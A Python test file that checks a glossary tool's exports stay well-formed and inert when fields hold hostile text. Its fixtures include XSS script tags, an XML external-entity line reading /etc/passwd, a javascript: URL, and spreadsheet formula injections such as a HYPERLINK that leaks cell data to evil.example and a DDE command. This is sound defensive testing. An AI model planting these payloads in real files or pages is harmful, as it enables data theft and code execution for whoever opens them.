"""Hostile field text in every export format: the output's structure never breaks.

Every field of the glossary below holds Markdown, HTML, XML, CSV and TSV delimiters,
quotes, line breaks of every kind and Anki's ``{{`` ``}}``. Each export is read back with
a real parser of its format, which must find the same records and cells, the text inert:
escaped where the format renders markup, kept as written where it does not.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import pytest
from defusedxml import ElementTree
from markdown_it import MarkdownIt

from glossary.model import Term
from glossary.termfile import yamltext

MD = "**bold** _it_ `code` [link](http://x) ![img](x)\n# head\n- item | pipe \\ <br> ~~s~~ [^1]"
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)> &amp; &lt; <b>b</b>"
XML = "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<?pi?><!-- c --><term>t</term>"
CELLS = 'a,b;"c""d"\te|f'
ANKI = "{{Front}} {{c1::cloze}} {{#Tags}}x{{/Tags}} {{{{ }} [sound:x.mp3] {{type:Hanzi}}"
BREAKS = "line1\nline2\r\nline3\u2028line4\u2029line5\rline6"
HOSTILE = (MD, HTML, XML, CELLS, ANKI, BREAKS)

TERMS = [
    Term(
        zh="背靠背",
        en=(HTML, MD.replace("|", "/"), ANKI),
        pinyin="bèikàobèi",
        traditional="背靠背",
        literal=XML,
        definition=MD + " " + HTML,
        context=BREAKS,
        source=CELLS + ANKI,
        url="javascript:alert(1)",
        tags=("a b", "<t>", "{{x}}"),
        see=("特殊友军",),
        avoid=(XML,),
        id="x\"'<>&{{id}}",
    ),
    Term(
        zh="特殊友军",
        en=(CELLS.replace("|", "/"), BREAKS, "plain"),
        pinyin="tèshū yǒujūn",
        definition=ANKI + BREAKS,
        context=XML,
        literal=CELLS,
    ),
    Term(zh="一二", en=("one two",), pinyin="yī èr", definition=HTML),
]
TITLE = "<T> {{title}} | *x*\n# h"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "terms.yaml"
    path.write_text(yamltext.document(TITLE, TERMS), encoding="utf-8")
    return path


def _export(run, fmt: str, *more: str) -> str:
    result = run("export", fmt, *more)
    assert result.exit_code == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result.stdout_bytes.decode("utf-8")  # .stdout would turn CRLF into LF


def _flat(text: str) -> str:
    """Line breaks of every kind as one space, as one-line formats keep them."""
    return " ".join(text.split())


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_keep_their_cells(run, hostile: Path, fmt: str) -> None:
    """Quoted cells: the csv module reads 13 cells a row, each text exactly as stored."""
    out = _export(run, fmt)
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert len(rows) == 1 + len(TERMS)
    assert all(len(row) == len(rows[0]) == 13 for row in rows)
    by_zh = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_zh["背靠背"]["context"] == BREAKS
    assert by_zh["背靠背"]["literal"] == XML
    assert by_zh["特殊友军"]["literal"] == CELLS
    assert by_zh["背靠背"]["en"].split("|") == list(TERMS[0].en)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_parses_to_the_same_text(run, hostile: Path, fmt: str) -> None:
    out = _export(run, fmt)
    records = json.loads(out) if fmt == "json" else [json.loads(x) for x in out.split("\n") if x]
    assert len(records) == len(TERMS)
    assert records[0]["context"] == BREAKS and records[0]["id"] == TERMS[0].id
    assert records[1]["definition"] == ANKI + BREAKS


@pytest.mark.parametrize("version", ["2", "3"])
def test_tbx_parses_and_round_trips(run, hostile: Path, tmp_path: Path, version: str) -> None:
    """defusedxml parses it (no DOCTYPE, no entity); the text comes back through import
    (XML turns a lone CR and a CRLF into LF: the one change, as XML requires)."""
    out = _export(run, "tbx", "--tbx-version", version)
    root = ElementTree.fromstring(out.encode("utf-8"))
    texts = "".join(root.itertext())
    assert XML in texts and HTML in texts and "<!ENTITY" not in out.split("?>", 1)[-1][:200]
    (tmp_path / "back.tbx").write_text(out, encoding="utf-8")
    assert run("import", "tbx", "back.tbx", "-o", "back.yaml").exit_code == 0
    back = json.loads(run("-g", "back.yaml", "export", "json").stdout)
    assert back[0]["literal"] == XML and back[0]["avoid"] == [XML]
    assert back[0]["context"] == BREAKS.replace("\r\n", "\n").replace("\r", "\n")


def test_markdown_table_keeps_its_columns_and_escapes_html(run, hostile: Path) -> None:
    out = _export(run, "markdown")
    tokens = MarkdownIt("commonmark").enable("table").parse(out)
    rows = [t for t in tokens if t.type == "tr_open"]
    assert len(rows) == 1 + len(TERMS)
    cells_per_row = []
    count = 0
    for t in tokens:
        if t.type == "tr_open":
            count = 0
        elif t.type in ("td_open", "th_open"):
            count += 1
        elif t.type == "tr_close":
            cells_per_row.append(count)
    assert set(cells_per_row) == {cells_per_row[0]}
    html = MarkdownIt("commonmark").enable("table").render(out)
    assert "<script>" not in html and "<img" not in html and "<b>b</b>" not in html
    assert "&lt;script&gt;" in html
    assert sum(t.type == "heading_open" for t in tokens) == 2  # the title and References


def test_markdown_entries_escape_everything(run, hostile: Path) -> None:
    out = _export(run, "markdown", "--style", "entries")
    html = MarkdownIt("commonmark").render(out)
    assert "<script>" not in html and "<img" not in html and "<a href" not in html
    headings = [t.content for t in MarkdownIt("commonmark").parse(out) if t.type == "inline"]
    assert "背靠背" in headings


def _anki_fields_are_inert(field: str) -> None:
    assert "{{" not in field and "}}" not in field
    assert "[sound:" not in field
    for tag in ("<script", "<img", "<b>", "<term", "<!--", "<?"):
        assert tag not in field, (tag, field)


def test_anki_tsv_keeps_one_note_a_line_and_no_live_template(run, hostile: Path) -> None:
    out = _export(run, "anki-tsv")
    lines = out.split("\n")[:-1]  # Anki splits lines at LF only (U+2028 is kept, as text)
    header = [line for line in lines if line.startswith("#")]
    notes = [line for line in lines if not line.startswith("#")]
    assert len(header) == 7 and len(notes) == len(TERMS)
    columns = header[4].removeprefix("#columns:").split("\t")
    for note in notes:
        fields = note.split("\t")
        assert len(fields) == len(columns)
        for field in fields[: columns.index("GUID")]:
            _anki_fields_are_inert(field.replace('<span class="alt">', "").replace("</span>", ""))
            assert not field.startswith('"') and "\r" not in field  # no field is quoted


def test_anki_package_fields_are_inert(run, hostile: Path, tmp_path: Path) -> None:
    result = run("export", "anki", "-o", "deck.apkg")
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(tmp_path / "deck.apkg") as package:
        (tmp_path / "collection.anki2").write_bytes(package.read("collection.anki2"))
    db = sqlite3.connect(tmp_path / "collection.anki2")
    try:
        notes = [row[0] for row in db.execute("SELECT flds FROM notes")]
    finally:
        db.close()
    assert len(notes) == len(TERMS)
    for flds in notes:
        for field in flds.split("\x1f"):
            _anki_fields_are_inert(
                field.replace('<span class="alt">', "").replace("</span>", "").replace("<br>", "")
            )


@pytest.mark.parametrize("fmt", ["pleco", "omegat", "deepl"])
def test_line_formats_keep_one_record_a_line(run, hostile: Path, fmt: str) -> None:
    """Plain-text formats: every record one line, its fields tab-separated, the text kept
    (line breaks and tabs in a field become single spaces)."""
    result = run("export", fmt)
    assert result.exit_code == 0 and "Traceback" not in result.stderr
    out = result.stdout_bytes.decode("utf-8")
    lines = [line for line in out.split("\n") if line and not line.startswith("//")]
    want = {"pleco": 3, "omegat": 3, "deepl": 2}[fmt]
    assert lines and all(len(line.split("\t")) == want for line in lines), lines
    assert all("\r" not in line and "\u2028" not in line for line in lines)
    if fmt == "pleco":
        assert len(lines) == len(TERMS)
        assert _flat(XML) in out and _flat(BREAKS) in out
    if fmt == "deepl":  # DeepL refuses control characters: that entry is left out, and named
        assert "deepl leaves out 特殊友军: control character" in result.stderr


def test_pleco_leaves_out_what_it_would_misread(run, write) -> None:
    write(
        "terms.yaml",
        "terms:\n  - zh: //背\n    en: a\n  - zh: 背[靠]\n    en: b\n  - zh: 一二\n    en: c\n",
    )
    result = run("export", "pleco")
    assert result.exit_code == 0
    assert result.stdout.splitlines() == ["一二\tyi1 er4\tc"]
    assert "pleco leaves out //背: the headword starts with '//'" in result.stderr
    assert "pleco leaves out 背[靠]: a square bracket" in result.stderr
    back = run("import", "pleco", "-", "-o", "back.yaml", input=result.stdout)
    assert back.exit_code == 0


def test_stardict_words_and_articles_stay_whole(run, hostile: Path, tmp_path: Path) -> None:
    result = run("export", "stardict", "-o", "dict")
    assert result.exit_code == 0, result.stderr
    files = {p.suffix: p.read_bytes() for p in (tmp_path / "dict").iterdir()}
    ifo = files[".ifo"].decode()
    assert ifo.count("\n") == len(ifo.splitlines()) and "bookname=<T> {{title}} | *x* # h" in ifo
    assert "sametypesequence=m" in ifo  # plain text: no markup is ever rendered
    idx = files[".idx"]
    words = []
    at = 0
    while at < len(idx):
        end = idx.index(b"\0", at)
        words.append(idx[at:end].decode())
        at = end + 9
    assert sorted(words) == sorted(t.zh for t in TERMS)
    assert all(c >= " " for w in words for c in w)


# --- Spreadsheet formulas: written inert, read back exactly ---------------------------------

#: Cells a spreadsheet would run (OWASP's =, +, -, @, tab, CR, full-width forms), and
#: stored text that starts with a quote already, which must come back as it was.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd' /C calc'!A0",  # DDE, without the | a list item cannot hold
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "'=already quoted",
    "''@twice",
    "-ism",
)
FORMULA_TERMS = [
    Term(zh="公式", en=FORMULAS[:4], definition=FORMULAS[4], literal=FORMULAS[5], tags=("=x",)),
    Term(zh="引号", en=(FORMULAS[6], "plain"), context=FORMULAS[7], source="\tindented"),
]
#: What a spreadsheet takes as the start of a formula.
RUNS = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture
def formulas(tmp_path: Path) -> Path:
    path = tmp_path / "terms.yaml"
    path.write_text(yamltext.document("Formulas", FORMULA_TERMS), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_no_cell_starts_a_formula(run, formulas: Path, fmt: str) -> None:
    """Cells were written as stored, so =HYPERLINK(...) ran in Excel and LibreOffice."""
    out = _export(run, fmt)
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter="," if fmt == "csv" else "\t"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(RUNS)], cells
    by_zh = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_zh["公式"]["en"] == "'" + "|".join(FORMULAS[:4])
    assert by_zh["公式"]["literal"] == "''=already quoted"
    assert by_zh["引号"]["source"] == "'\tindented"
    assert by_zh["引号"]["en"] == "'''@twice|plain"
    assert by_zh["公式"]["tags"] == "'=x"


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_import_takes_exactly_that_quote_off(run, formulas: Path, tmp_path: Path, fmt: str) -> None:
    (tmp_path / f"back.{fmt}").write_text(_export(run, fmt), encoding="utf-8")
    assert run("import", fmt, f"back.{fmt}", "-o", "back.yaml").exit_code == 0
    back = json.loads(run("-g", "back.yaml", "export", "json").stdout)
    original = json.loads(run("export", "json").stdout)
    original[1]["source"] = "indented"  # import trims the spaces around every value
    assert back == original


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_raw_writes_and_reads_the_cells_as_stored(
    run, formulas: Path, tmp_path: Path, fmt: str
) -> None:
    out = _export(run, fmt, "--raw")
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert rows[1][3] == "|".join(FORMULAS[:4]) and rows[1][5] == "'=already quoted"
    (tmp_path / f"raw.{fmt}").write_text(out, encoding="utf-8")
    assert run("import", fmt, f"raw.{fmt}", "-o", "raw.yaml", "--raw").exit_code == 0
    back = json.loads(run("-g", "raw.yaml", "export", "json").stdout)
    assert back[0]["en"] == list(FORMULAS[:4]) and back[0]["literal"] == "'=already quoted"
